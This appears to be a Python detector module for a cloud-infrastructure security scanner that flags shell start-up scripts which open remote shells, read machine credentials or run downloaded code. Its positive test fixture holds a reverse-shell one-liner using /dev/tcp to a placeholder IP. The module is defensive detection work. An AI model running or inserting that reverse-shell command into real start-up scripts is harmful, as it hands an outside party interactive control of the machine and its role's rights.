"""Scripts that do something against the owner of the machine which starts with them.

Why it matters: infrastructure code hands a notebook or a domain its start-up script by the path of a file
(`filebase64("boot.sh")`). Whoever can change the file runs code with the rights of the machine's role each time it starts.

How it recognises: shell scripts that open a shell to somewhere else, read the credentials of their machine or run what they
download. It says nothing on its own: a resource that names the file as its start-up script takes it over.

What it does not see: scripts in other languages, and what a script fetches before it starts it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from upright.discover.behaviour import startup_flaw
from upright.discover.cloud.declared import SCRIPT, Declared
from upright.discover.detector import Detector, Hit, Miss, Selector
from upright.discover.readers.node import Node
from upright.model.asset import Location

if TYPE_CHECKING:
    from collections.abc import Iterator

    from upright.discover.detector import Sighting
    from upright.discover.document import Document


def _detect(document: Document) -> Iterator[Sighting]:
    flaw = startup_flaw(document.text)
    if flaw:
        source, path = document.item.source, document.item.path
        yield Declared(SCRIPT, path, f"{source}//{path}#", Node({"flaw": Node(flaw)}), Location(path, 1, source))


DETECTOR = Detector(
    id="startup-scripts",
    title="Start-up scripts that act against their owner",
    selects=Selector(languages=frozenset({"shell"})),
    detect=_detect,
    hits=(Hit("boot.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", (), declares=("startup_script",)),),
    misses=(Miss("boot.sh", "#!/bin/bash\npip install polars\n"),),
)
